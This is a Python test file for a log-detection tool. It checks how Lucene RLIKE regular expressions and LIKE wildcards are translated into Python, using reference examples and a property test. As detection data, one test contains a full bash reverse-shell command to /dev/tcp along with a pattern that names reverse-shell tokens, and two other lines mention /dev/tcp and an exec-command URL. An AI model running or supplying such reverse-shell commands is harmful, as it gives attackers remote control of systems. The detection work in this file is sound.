"""RLIKE's Lucene regular expressions and LIKE's wildcards, translated to Python.

The examples are those of Elastic's "Regular expression syntax" reference
(docs/reference/query-languages/query-dsl/regexp-syntax.md), the grammar's
corner cases are those of Lucene's RegExp.java, and a property test checks
the translation against an independent evaluator of the same syntax tree
(a set-of-end-positions automaton simulation, which reads ``&`` and ``~`` directly).
"""
from __future__ import annotations

from functools import lru_cache

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gatewatch.esql.javaregex import java_regex
from gatewatch.esql.lucene import _LuceneParser, _Node, lucene_regex, wildcard
from gatewatch.esql.regex import PatternError


@pytest.mark.parametrize("pattern, matching, not_matching", [
    ("ab.", ["aba", "abb", "abz"], ["ab", "abzz"]),
    ("abc?", ["ab", "abc"], ["abcc"]),
    ("ab+", ["ab", "abb", "abbb"], ["a"]),
    ("ab*", ["a", "ab", "abb", "abbb"], ["b"]),
    ("a{2}", ["aa"], ["a", "aaa"]),
    ("a{2,4}", ["aa", "aaa", "aaaa"], ["a", "aaaaa"]),
    ("a{2,}", ["aa", "aaaaaa"], ["a"]),
    ("abc|xyz", ["abc", "xyz"], ["abcxyz"]),
    ("abc(def)?", ["abc", "abcdef"], ["abcd"]),
    ("[abc]", ["a", "b", "c"], ["d", "ab"]),
    ("[a-c]", ["a", "b", "c"], ["d"]),
    ("[-abc]", ["-", "a"], ["d"]),
    ("[abc\\-]", ["-", "c"], ["d"]),
    ("[^abc]", ["d", "\n"], ["a", "dd"]),
    ("[^-abc]", ["d"], ["-"]),
    ("#|abc", ["abc"], ["", "#"]),
    ("foo<1-100>", ["foo1", "foo2", "foo99", "foo100", "foo007"], ["foo0", "foo101"]),
    ("foo<01-100>", ["foo01", "foo02", "foo99", "foo100"], ["foo101"]),
    ("foo<001-100>", ["foo001", "foo099", "foo100"], ["foo1", "foo01"]),
    ("aaa.+&.+bbb", ["aaabbb", "aaaxbbb"], ["aaab"]),
    ("@&~(abc.+)", ["xyz", "abc", "ab"], ["abcd"]),
    ("\\@", ["@"], ["x"]),
    ("\\\\", ["\\"], ["\\\\"]),
    ('"john@smith.com"', ["john@smith.com"], ["johnxsmith.com"]),
    ("a\\d\\s\\w", ["a1 _", "a9\tz"], ["a1\x0b_", "aa _"]),
    ("[\\d]+", ["123"], ["12a"]),
    ("x\\S", ["xa"], ["x "]),
    ("^a$", ["^a$"], ["a"]),  # no anchors in Lucene
    ("()", [""], ["a"]),
    (".", ["\n"], [""]),
])
def test_lucene_syntax_examples(pattern, matching, not_matching):
    matcher = lucene_regex(pattern)
    assert all(matcher(text) for text in matching), [t for t in matching if not matcher(t)]
    assert not any(matcher(text) for text in not_matching), [t for t in not_matching if matcher(t)]


def test_elastics_reverse_shell_alternatives_with_an_ampersand_are_intersections_that_match_nothing():
    # From the rule's RLIKE: Lucene reads '&' as intersection, as ES|QL turns every operator on.
    matcher = lucene_regex(r".*(/dev/tcp/|bash\s+-i\s+>&|0>&1|>&\s*/dev/tcp|mkfifo).*")
    assert matcher("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")  # through /dev/tcp/
    assert matcher("mkfifo /tmp/f")
    assert not matcher("exec 0>&1")
    assert not matcher("bash -i >& x")


@pytest.mark.parametrize("pattern, reason", [
    ("a~bc", "complement"),
    ("x(a.*&.*b)y", "intersection"),
    ("<name>", "named automaton"),
    ("a\\qb", "invalid character class"),
    ("(ab", r"expected '\)'"),
    ("a{,2}", "integer expected"),
    ("[b-a]", "invalid range"),
])
def test_what_lucene_refuses_or_python_cannot_express_is_an_error(pattern, reason):
    with pytest.raises(PatternError, match=reason):
        lucene_regex(pattern)


@pytest.mark.parametrize("pattern, matching, not_matching", [
    ("foo*", ["foo", "foobar"], ["fo"]),
    ("*bar", ["bar", "foobar"], ["barx"]),
    ("f?o*", ["foo", "fxoz"], ["fo"]),
    ("a\\*b", ["a*b"], ["axb"]),
    ("*command=*", ["/exec?command=sh"], ["/exec?cmd=sh"]),
    ("a*b*c", ["abc", "axxbyyc", "abbc"], ["acb"]),
    ("*", ["", "anything"], []),
])
def test_like_wildcards(pattern, matching, not_matching):
    matcher = wildcard(pattern)
    assert all(matcher(text) for text in matching)
    assert not any(matcher(text) for text in not_matching)


def test_java_regex_translation_for_replace():
    assert java_regex(r"(?<word>\w+)").sub(lambda m: m.group("word").upper(), "ab cd") == "AB CD"
    assert java_regex(r"\Qa.b\E").sub("-", "a.b axb") == "- axb"
    assert java_regex(r"a.b").sub("-", "a\rb a\nb axb") == "a\rb a\nb -"  # Java's . stops at \r too
    with pytest.raises(PatternError, match="character classes"):
        java_regex(r"\p{Alpha}")


# --- the translation against an independent evaluator of the syntax tree ------------------------------


def _reference(node: _Node, text: str) -> bool:
    @lru_cache(maxsize=None)
    def ends(current: _Node, start: int) -> frozenset[int]:
        kind = current.kind
        if kind == "char":
            return frozenset({start + 1}) if text[start:start + 1] == current.text else frozenset()
        if kind == "string":
            return frozenset({start + len(current.text)}) if text.startswith(current.text, start) else frozenset()
        if kind == "any":
            return frozenset({start + 1}) if start < len(text) else frozenset()
        if kind == "anystring":
            return frozenset(range(start, len(text) + 1))
        if kind == "empty":
            return frozenset()
        if kind == "class":
            if start >= len(text):
                return frozenset()
            char = text[start]
            hit = False
            for item in current.children:
                if item.kind == "char":
                    hit |= char == item.text
                elif item.kind == "range":
                    hit |= item.text[0] <= char <= item.text[1]
                else:
                    letter = item.text if item.kind == "predefined" else item.children[0].text
                    members = {"d": "0123456789", "s": " \t\n\r",
                               "w": "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ_0123456789"}[letter.lower()]
                    hit |= (char in members) == letter.islower()
            return frozenset({start + 1}) if hit != current.negated else frozenset()
        if kind == "union":
            return ends(current.children[0], start) | ends(current.children[1], start)
        if kind == "inter":
            return ends(current.children[0], start) & ends(current.children[1], start)
        if kind == "complement":
            return frozenset(range(start, len(text) + 1)) - ends(current.children[0], start)
        if kind == "concat":
            return frozenset(j for k in ends(current.children[0], start) for j in ends(current.children[1], k))
        if kind == "repeat":
            reached, frontier, count = set(), {start}, 0
            if current.low == 0:
                reached.add(start)
            while frontier and (current.high is None or count < current.high):
                count += 1
                frontier = {j for i in frontier for j in ends(current.children[0], i)} - (
                    reached if count > current.low else set())
                if count >= current.low:
                    reached |= frontier
                if count > len(text) + current.low + 1:
                    break
            return frozenset(reached)
        if kind == "interval":
            found = set()
            for end in range(start + 1, len(text) + 1):
                digits = text[start:end]
                if not digits.isdigit():
                    break
                if current.digits and len(digits) != current.digits:
                    continue
                if current.low <= int(digits) <= current.high:
                    found.add(end)
            return frozenset(found)
        raise AssertionError(kind)

    return len(text) in ends(node, 0)


_ATOMS = st.sampled_from(["a", "b", ".", "[ab]", "[^a]", "\\s", "\\d", "@", "#", '"ab"', "()", "<1-12>", "1"])


@st.composite
def _patterns(draw, depth=0):
    if depth > 3 or draw(st.booleans()):
        return draw(_ATOMS)
    kind = draw(st.sampled_from(["concat", "union", "repeat", "group", "inter", "complement"]))
    left = draw(_patterns(depth + 1))
    if kind == "repeat":
        return f"({left}){draw(st.sampled_from(['*', '+', '?', '{1,2}', '{2}']))}"
    if kind == "group":
        return f"({left})"
    if kind == "complement":
        return f"~({left})"
    right = draw(_patterns(depth + 1))
    operator = {"concat": "", "union": "|", "inter": "&"}[kind]
    return f"({left}{operator}{right})"


@settings(max_examples=400, deadline=None)
@given(pattern=_patterns(), text=st.text(alphabet="ab1 2\n", max_size=6))
def test_translation_agrees_with_an_independent_evaluation_of_the_same_tree(pattern, text):
    node = _LuceneParser(pattern).parse()
    try:
        matcher = lucene_regex(pattern)
    except PatternError as error:
        assert error.untranslatable  # only a real limit of Python's re may refuse a valid pattern
        return
    assert matcher(text) == _reference(node, text), (pattern, text)


def test_text_with_a_lone_surrogate_is_matched_not_an_error():
    # JSON may carry "\ud800"; RE2 reads UTF-8, so such a character must not break evaluation.
    assert lucene_regex(".*/dev/tcp/.*")("x\ud800 > /dev/tcp/203.0.113.7/1")
    assert wildcard("?x*")("\ud800xy")
